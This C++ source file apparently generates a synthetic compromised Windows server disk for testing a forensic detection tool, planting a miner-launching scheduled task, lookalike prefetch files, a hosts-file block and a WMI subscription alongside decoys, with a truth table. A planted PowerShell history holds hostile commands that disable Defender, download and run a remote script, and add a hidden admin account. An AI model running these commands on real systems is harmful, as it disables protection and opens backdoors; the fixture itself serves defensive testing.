#include "tests/support/prefetch_writer.h"
#include "tests/support/task_writer.h"
#include "tests/support/wmi_writer.h"
#include "tools/demo/state.h"
#include "xiezhi/base/bytes.h"

namespace xiezhi::demo {
namespace {

using testing::binary_value;
using testing::HiveKey;
using testing::key_at;
using testing::number_value;
using testing::text_value;

struct Task {
    const char* path;  // \Folder\Name
    const char* id;
    const char* author;
    const char* trigger;
    const char* command;
    const char* arguments;
};

std::string task_xml(const Task& task) {
    return std::string(R"(<?xml version="1.0" encoding="UTF-16"?>)"
                       R"(<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/)"
                       R"(02/mit/task"><RegistrationInfo><Author>)") +
           task.author + "</Author><URI>" + task.path + "</URI></RegistrationInfo><Triggers>" +
           task.trigger +
           R"(</Triggers><Principals><Principal id="Author"><UserId>S-1-5-18</UserId></Principal>)"
           R"(</Principals><Settings><Enabled>true</Enabled></Settings>)"
           R"(<Actions Context="Author"><Exec><Command>)" +
           task.command + "</Command><Arguments>" + task.arguments +
           "</Arguments></Exec></Actions></Task>";
}

void add_task(Disk& disk, HiveKey& software, const Task& task, FileTime written) {
    const std::string cache = R"(Microsoft\Windows NT\CurrentVersion\Schedule\TaskCache\)";
    HiveKey& tree = key_at(software, cache + "Tree" + task.path);
    tree.values = {text_value("Id", task.id), number_value("Index", 3),
                   binary_value("SD", std::string("\1\0\4\x80", 4) + std::string(16, '\0'))};
    tree.written = written;
    HiveKey& key = key_at(software, cache + R"(Tasks\)" + task.id);
    key.values = {text_value("Path", task.path), text_value("Author", task.author)};
    key.written = written;
    std::string file = std::string("C/Windows/System32/Tasks") + task.path;
    for (char& c : file) {
        if (c == '\\') c = '/';
    }
    disk.add(file, std::string(as_text(testing::utf16_file(task_xml(task)))));
}

void add_prefetch(Disk& disk, const std::string& program, const std::string& folder,
                  std::uint32_t hash, const std::vector<FileTime>& runs) {
    testing::PrefetchContent content;
    content.executable = program;
    content.hash = hash;
    content.run_count = static_cast<std::uint32_t>(runs.size());
    content.run_times.clear();
    for (auto run = runs.rbegin(); run != runs.rend(); ++run)
        content.run_times.push_back(run->ticks);
    content.files = {R"(\DEVICE\HARDDISKVOLUME1\WINDOWS\SYSTEM32\NTDLL.DLL)",
                     R"(\DEVICE\HARDDISKVOLUME1)" + folder + program};
    static constexpr std::string_view kDigits = "0123456789ABCDEF";
    std::string name = "C/Windows/Prefetch/" + program + "-";
    for (int shift = 28; shift >= 0; shift -= 4) name += kDigits[(hash >> shift) & 0xfU];
    disk.add(name + ".pf", testing::mam_file(testing::prefetch_file(content)));
}

void add_repository(Disk& disk) {
    const std::string folder = "C/Windows/System32/wbem/Repository/";
    const testing::WmiFiles files = testing::wmi_with_subscription(
        false, {.filter = "WinUpdateTimer",
                .command = std::string(R"(cmd.exe /c start "" )") + kMinerCopy,
                .written = night(2, 11).ticks,
                .rests = false});
    disk.add(folder + "OBJECTS.DATA", std::string(as_text(files.objects)));
    disk.add(folder + "INDEX.BTR", std::string(as_text(files.index)));
    disk.add(folder + "MAPPING1.MAP", std::string(as_text(files.mapping)));
    disk.planted("wmi.subscription", "Repository", kMinerCopy);
}

}  // namespace

void write_tasks(Disk& disk, HiveKey& software) {
    constexpr const char* kEveryHalfHour =
        "<TimeTrigger><StartBoundary>2026-03-12T02:30:00</StartBoundary><Repetition>"
        "<Interval>PT30M</Interval></Repetition></TimeTrigger>";
    constexpr const char* kNightly =
        "<CalendarTrigger><StartBoundary>2024-01-01T23:00:00</StartBoundary>"
        "<ScheduleByDay><DaysInterval>1</DaysInterval></ScheduleByDay></CalendarTrigger>";
    add_task(disk, software,
             {R"(\WinUpdateCheck)", "{6B2F8A10-5A3C-4D0E-9A51-2F60C17D3101}",
              R"(SZ-ERP-SRV01\administrator)", kEveryHalfHour, kMinerCopy, ""},
             night(2, 9));
    add_task(disk, software,
             {R"(\Acme Backup Nightly)", "{6B2F8A10-5A3C-4D0E-9A51-2F60C17D3102}", "Acme Software",
              kNightly, R"("C:\Program Files\Acme Backup\agent.exe")", "--nightly"},
             long_ago());
    add_task(
        disk, software,
        {R"(\Microsoft\Windows\Defrag\ScheduledDefrag)", "{6B2F8A10-5A3C-4D0E-9A51-2F60C17D3103}",
         "Microsoft Corporation", kNightly, R"(%windir%\system32\defrag.exe)", "-c -h -o"},
        long_ago());
    disk.planted("task.action", "Tasks/WinUpdateCheck", kMinerCopy);
    disk.decoy("Tasks/Acme Backup Nightly", "agent.exe");
    disk.decoy("Defrag/ScheduledDefrag", "defrag.exe");
}

void write_files(Disk& disk) {
    add_prefetch(disk, "SVCHOSTS.EXE", R"(\WINDOWS\TEMP\)", 0x5b2e0c11,
                 {night(2, 5), night(2, 30), night(3, 0)});
    disk.planted("process.name.lookalike", "SVCHOSTS.EXE-5B2E0C11.pf", "SVCHOSTS.EXE");
    add_prefetch(disk, "T.EXE", R"(\USERS\PUBLIC\)", 0x3d10f7c4, {night(1, 52)});
    disk.planted("process.path.hideout", "T.EXE-3D10F7C4.pf", "T.EXE");
    add_prefetch(disk, "SVCHOST.EXE", R"(\WINDOWS\SYSTEM32\)", 0x0a4c8812, {night(0, 2)});
    add_prefetch(disk, "AGENT.EXE", R"(\PROGRAM FILES\ACME BACKUP\)", 0x77f01a3e, {night(0, 1)});
    disk.decoy("SVCHOST.EXE-0A4C8812.pf", "SVCHOST.EXE");
    disk.decoy("AGENT.EXE-77F01A3E.pf", "AGENT.EXE");
    disk.add("C/Windows/System32/drivers/etc/hosts",
             "# Copyright (c) 1993-2009 Microsoft Corp.\r\n127.0.0.1 localhost\r\n"
             "10.20.0.16 erp-db.acme.example\r\n"
             "0.0.0.0 definitionupdates.microsoft.com\r\n");
    disk.planted("network.hosts-file", "etc/hosts", "definitionupdates.microsoft.com");
    disk.decoy("etc/hosts", "erp-db.acme.example");
    const std::string history =
        "/AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt";
    disk.add("C/Users/Administrator" + history,
             "Set-MpPreference -DisableRealtimeMonitoring $true\r\n"
             "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/a.ps1')\r\n"
             "net user admin$ P@ss1020 /add\r\n");
    disk.planted("powershell.cmd.download", "Administrator", "198.51.100.23/a.ps1");
    disk.add("C/Users/erpadmin" + history,
             "Get-Service MSSQLSERVER\r\nGet-EventLog -LogName System -Newest 20\r\n"
             "Test-NetConnection 10.20.0.16 -Port 1433\r\n");
    disk.decoy("erpadmin", "Get-Service MSSQLSERVER");
    disk.add(
        "C/Users/Administrator/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/"
        "Startup/desktop.ini",
        "[.ShellClassInfo]\r\n");
    disk.decoy("Startup/desktop.ini", "desktop.ini");
    add_repository(disk);
}

FileTime night(std::uint32_t hour, std::uint32_t minute) {
    constexpr std::uint32_t kDayOfIntrusion = 3;
    return Host::local(kDayOfIntrusion, hour, minute);
}

FileTime long_ago() {
    return {132'844'032'000'000'000};  // 21 December 2021, when the server was set up
}

Disk tell_disk() {
    Disk disk;
    write_system(disk);
    write_software(disk);
    write_accounts(disk);
    write_files(disk);
    return disk;
}

std::string truth_table(const Disk& disk) {
    std::string out = "capability\trole\tartefact\ttext\n";
    for (const TruthRow& row : disk.truth()) {
        out += row.capability + '\t' + row.role + '\t' + row.artefact + '\t' + row.text + '\n';
    }
    return out;
}

}  // namespace xiezhi::demo
